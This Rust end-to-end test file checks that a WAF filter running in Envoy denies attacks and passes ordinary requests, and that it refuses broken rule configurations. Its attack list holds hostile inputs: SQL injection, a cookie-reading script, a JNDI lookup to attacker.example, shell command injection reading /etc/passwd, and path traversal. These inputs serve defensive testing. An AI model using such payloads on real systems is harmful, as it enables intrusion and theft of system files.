//! The filter in a real Envoy: what passes, what is denied, and what a broken configuration does.
//!
//! `ENVOY` and `PARAPET_WASM` choose other binaries than `make e2e` does.

mod changes;
mod client;
mod collector;
mod counting;
mod exchange;
mod gateway;
mod metrics;
mod packed;
mod secrets;
mod selection;
mod situations;
mod traffic;

use client::{Request, VERSIONS, Version};
use gateway::Gateway;
use serde_json::{Value, json};
use std::io::{BufRead, BufReader};
use std::net::TcpStream;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};
use wasm_tests::{project, wasm};

/// A plugin configuration with one profile for everybody.
fn plugin(directives: &[&str]) -> Value {
    json!({ "directives_map": { "default": directives }, "default_directives": "default" })
}

/// The rule sets that the filter holds. The Core Rule Set is one of them where `make crs` brought
/// it before the build.
fn rule_sets() -> Vec<(&'static str, Value)> {
    let mut sets = vec![(
        "baseline",
        plugin(&["Include @demo-conf", "Include @baseline/*.conf"]),
    )];
    if project().join("rules/crs").is_dir() {
        let crs = [
            "Include @demo-conf",
            "Include @crs-setup-conf",
            "Include @owasp_crs/*.conf",
        ];
        sets.push(("Core Rule Set", plugin(&crs)));
    } else {
        assert!(
            std::env::var_os("PARAPET_REQUIRE_DATA").is_none(),
            "rules/crs is missing: run `make crs`"
        );
    }
    sets
}

fn ordinary_requests() -> Vec<(&'static str, Request)> {
    vec![
        (
            "a browser's GET",
            Request::get("/products?category=garden&sort=price&page=2"),
        ),
        (
            "a form",
            Request::form(
                "/account",
                "name=Ada+Lovelace&city=London&about=I+like+engines%21",
            ),
        ),
        (
            "JSON",
            Request::json(
                "/api/orders",
                r#"{"items":[{"sku":"A-17","count":2}],"note":"by Friday"}"#,
            ),
        ),
    ]
}

fn attacks() -> Vec<(&'static str, Request)> {
    vec![
        (
            "SQL injection in the query",
            Request::get("/item?id=1%27%20OR%20%271%27=%271"),
        ),
        (
            "script in a form",
            Request::form(
                "/comments",
                "comment=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
            ),
        ),
        (
            "a lookup in a header",
            Request::get("/").header("x-api-version", "${jndi:ldap://attacker.example/a}"),
        ),
        (
            "a shell command in JSON",
            Request::json("/api/ping", r#"{"host":"127.0.0.1; cat /etc/passwd"}"#),
        ),
        (
            "traversal in an argument",
            Request::get("/download?file=../../../../etc/passwd"),
        ),
        (
            "traversal in the path",
            Request::get("/static/../../../../etc/passwd"),
        ),
    ]
}

#[test]
fn attacks_end_before_the_backend_and_ordinary_requests_reach_it() {
    for (rules, plugin) in rule_sets() {
        let gateway = Gateway::start(&plugin);
        for version in VERSIONS {
            for (name, request) in attacks() {
                let answer = gateway.send(version, &request);
                assert_eq!(
                    answer.status,
                    403,
                    "{rules}, {version:?}: {name}\n{}",
                    gateway.log()
                );
            }
        }
        assert_eq!(
            gateway.backend.connections(),
            0,
            "{rules}: a denied request went upstream"
        );

        for version in VERSIONS {
            for (name, request) in ordinary_requests() {
                let answer = gateway.send(version, &request);
                let case = format!("{rules}, {version:?}: {name}");
                assert_eq!(answer.status, 200, "{case}\n{}", gateway.log());
                assert_eq!(
                    answer.text(),
                    format!("reached with {} bytes", request.body.len())
                );
                let received = gateway.backend.last().expect(&case);
                assert_eq!(
                    (received.target, received.body),
                    (request.path, request.body),
                    "{case}"
                );
            }
        }
    }
}

#[test]
fn a_denial_names_its_rule_in_the_log() {
    let rule = r#"SecRule ARGS:colour "@streq mauve" "id:4711,phase:2,deny,status:406,log,msg:'No mauve here'""#;
    let gateway = Gateway::start(&plugin(&["SecRuleEngine On", rule]));
    let mauve = Request::get("/?colour=mauve");
    assert_eq!(gateway.send(Version::Http1, &mauve).status, 406);
    let log = gateway.log();
    let line = log
        .lines()
        .find(|line| line.contains(r#"[id "4711"]"#))
        .expect(&log);
    assert!(
        line.contains("No mauve here") && line.contains("ARGS:colour"),
        "{line}"
    );
}

/// Text around responses, replaced bodies, another `server`, no compression: with lengths that fit
/// on both sides.
#[test]
fn rules_change_what_passes() {
    let rules = plugin(&[
        "SecRuleEngine On",
        "SecRequestBodyAccess On",
        "SecResponseBodyAccess On",
        "SecContentInjection On",
        "SecServerSignature Loom",
        "SecDisableBackendCompression On",
        "SecStreamInBodyInspection On",
        "SecStreamOutBodyInspection On",
        "SecAction \"id:1,phase:3,pass,nolog,prepend:'<top>',append:'</%{REQUEST_METHOD}>'\"",
        "SecRule STREAM_INPUT_BODY \"@rsub s/secret/***/\" \"id:2,phase:2,pass,nolog\"",
        "SecRule STREAM_OUTPUT_BODY \"@rsub s/reached/met/\" \"id:3,phase:4,pass,nolog\"",
    ]);
    let gateway = Gateway::start_changed(&rules, |manager| {
        manager["server_header_transformation"] = json!("PASS_THROUGH");
    });
    for version in VERSIONS {
        let form = Request::form("/", "a=secret&b=1");
        let answer = gateway.send(version, &form);
        let expected = "<top>met with 9 bytes</POST>";
        assert_eq!(answer.text(), expected, "{version:?}\n{}", gateway.log());
        let length = expected.len().to_string();
        assert_eq!(answer.header("content-length"), Some(length.as_str()));
        assert_eq!(answer.header("server"), Some("Loom"));
        let received = gateway.backend.last().unwrap();
        assert_eq!(received.header("accept-encoding"), None);
        assert_eq!(received.body, b"a=***&b=1");

        let head = Request {
            method: "HEAD",
            ..Request::get("/")
        };
        let answer = gateway.send(version, &head);
        assert_eq!((answer.status, answer.text().as_str()), (200, ""));
    }
}

/// `id=1%27+or+1&note=hello+hello+hello`, compressed.
const GZIP: &[u8] = b"\x1f\x8b\x08\0\0\0\0\0\0\x03\xcb\x4c\xb1\x35\x54\x35\x32\xd7\xce\x2f\xd2\
    \x36\x54\xcb\xcb\x2f\x49\xb5\xcd\x48\xcd\xc9\xc9\xd7\x46\x22\x01\x56\x58\xbd\xe7\x23\0\0\0";

#[test]
fn hidden_bodies_are_read_and_go_on_as_they_came() {
    const FORM: &str = "application/x-www-form-urlencoded";
    let gateway = Gateway::start(&plugin(&[
        "Include @demo-conf",
        "SecRule ARGS \"@rx ' or\" \"id:1,phase:2,deny,status:403,log\"",
        "SecRule ARGS \"@streq <b>\" \"id:2,phase:2,deny,status:406,log\"",
    ]));
    let gzip = |body: &[u8]| Request::post("/", FORM, body).header("content-encoding", "gzip");
    let utf16: Vec<u8> = "x=<b>".encode_utf16().flat_map(u16::to_le_bytes).collect();
    let utf16 = Request::post("/", &format!("{FORM}; charset=utf-16le"), utf16);
    for version in VERSIONS {
        for (request, status) in [
            (gzip(GZIP), 403),
            (gzip(&GZIP[..30]), 400),
            (gzip(b"a=1"), 400),
            (utf16.clone(), 406),
        ] {
            let answer = gateway.send(version, &request);
            assert_eq!(answer.status, status, "{}", gateway.log());
        }
    }
    assert_eq!(gateway.backend.connections(), 0);
    // Without an attack.
    let mut update = gateway;
    assert!(update.update(&plugin(&["Include @demo-conf"]).to_string()));
    let deadline = Instant::now() + Duration::from_secs(30);
    while update.send(Version::Http1, &gzip(GZIP)).status != 200 {
        assert!(Instant::now() < deadline, "{}", update.log());
        std::thread::sleep(Duration::from_millis(100));
    }
    assert_eq!(update.backend.last().unwrap().body, GZIP);
}

/// Configurations that must be refused, and what the message has to name.
fn broken() -> Vec<(&'static str, String, Vec<&'static str>)> {
    let rules = |text: &str| plugin(&["SecRuleEngine On", text]).to_string();
    vec![
        (
            "unknown operator",
            rules(r#"SecRule ARGS "@containz x" "id:1,phase:2,deny""#),
            vec!["@containz", "contains"],
        ),
        (
            "unclosed quote",
            rules(r#"SecRule ARGS "@rx x" "id:1,phase:2,deny"#),
            vec!["quote"],
        ),
        (
            "bad regex",
            rules(r#"SecRule ARGS "@rx (unclosed" "id:1,phase:2,deny""#),
            vec!["(unclosed"],
        ),
        (
            "duplicate id",
            rules("SecAction \"id:77,phase:1,pass,nolog\"\nSecAction \"id:77,phase:1,pass,nolog\""),
            vec!["77"],
        ),
        (
            "chain without end",
            rules(r#"SecRule ARGS "@rx x" "id:1,phase:2,deny,chain""#),
            vec!["chain"],
        ),
        (
            "unknown file",
            rules("Include @no-such-conf"),
            vec!["@no-such-conf"],
        ),
        (
            "unknown key",
            json!({ "directive_map": { "default": [] }, "default_directives": "default" })
                .to_string(),
            vec!["directive_map"],
        ),
        (
            "no JSON",
            "directives_map: {}".to_owned(),
            vec!["plugin configuration:1:1"],
        ),
    ]
}

#[test]
fn a_broken_update_is_refused_with_a_reason_and_the_old_rules_keep_serving() {
    let rule = |word: &str| {
        plugin(&[
            "SecRuleEngine On",
            &format!(r#"SecRule ARGS "@contains {word}" "id:10,phase:2,deny,status:403,nolog""#),
        ])
    };
    let (old, new) = (Request::get("/?a=teapot"), Request::get("/?a=kettle"));
    let mut gateway = Gateway::start(&rule("teapot"));
    let statuses = |gateway: &Gateway| {
        [&old, &new].map(|request| gateway.send(Version::Http1, request).status)
    };
    assert_eq!(statuses(&gateway), [403, 200]);

    for (name, configuration, needles) in broken() {
        let before = gateway.log().len();
        assert!(
            !gateway.update(&configuration),
            "{name}: Envoy took the update"
        );
        let log = gateway.log().split_off(before);
        for needle in needles {
            assert!(
                log.contains(needle),
                "{name}: the log does not name {needle}:\n{log}"
            );
        }
        assert_eq!(
            statuses(&gateway),
            [403, 200],
            "{name}: the old rules are gone"
        );
    }

    assert!(
        gateway.update(&rule("kettle").to_string()),
        "{}",
        gateway.log()
    );
    let deadline = Instant::now() + Duration::from_secs(30);
    while statuses(&gateway) != [200, 403] {
        assert!(Instant::now() < deadline, "the new rules do not serve");
        std::thread::sleep(Duration::from_millis(100));
    }
}

#[test]
fn a_broken_configuration_at_start_is_refused_with_a_reason() {
    let (name, configuration, needles) = broken().swap_remove(0);
    let log = gateway::refusal(&configuration);
    for needle in needles {
        assert!(
            log.contains(needle),
            "{name}: the log does not name {needle}:\n{log}"
        );
    }
}

#[test]
fn the_shipped_examples_are_valid() {
    let mut count = 0;
    for entry in std::fs::read_dir(project().join("envoy")).unwrap() {
        let file = entry.unwrap().path();
        if file.extension().is_some_and(|it| it == "yaml") {
            let mut text = std::fs::read_to_string(&file).unwrap();
            if !project().join("rules/crs").is_dir() {
                text = text
                    .replace("\"Include @crs-setup-conf\",", "")
                    .replace("@owasp_crs", "@baseline");
            }
            gateway::validates(&text).unwrap_or_else(|log| panic!("{}:\n{log}", file.display()));
            count += 1;
        }
    }
    assert!(count > 0, "envoy/ has no example");
}

/// `make run` as a newcomer sees it: an invitation, commands that do what they say, and an end.
#[test]
fn make_run_serves_a_guarded_gateway_and_stops_both_programs() {
    let [port, backend, admin] = [(); 3].map(|()| gateway::free_address());
    let mut run = Command::new(project().join("scripts/run"))
        .env("PARAPET_PORT", port.port().to_string())
        .env("PARAPET_BACKEND_PORT", backend.port().to_string())
        .env("PARAPET_ADMIN_PORT", admin.port().to_string())
        .env("PARAPET_WASM", wasm())
        .env("ENVOY", gateway::envoy())
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();

    let mut lines = BufReader::new(run.stdout.take().unwrap())
        .lines()
        .map_while(Result::ok);
    let mut said: Vec<String> = Vec::new();
    for line in lines.by_ref() {
        let last = line.contains("Ctrl-C");
        said.push(line);
        if last {
            break;
        }
    }
    let said = said.join("\n");
    assert!(
        said.contains("ready: ") && said.contains("rules: "),
        "{said}"
    );
    assert_eq!(said.matches("\n  curl ").count(), 5, "{said}");

    let status = |request: &Request| client::send(Version::Http2, port, request).status;
    assert_eq!(status(&Request::get("/search?q=sandbox&page=2")), 200);
    assert_eq!(status(&attacks()[0].1), 403);

    let pid = run.id().to_string();
    assert!(
        Command::new("kill")
            .args(["-TERM", &pid])
            .status()
            .unwrap()
            .success()
    );
    run.wait().unwrap();
    for address in [port, backend, admin] {
        assert!(
            TcpStream::connect(address).is_err(),
            "{address} still answers"
        );
    }
}
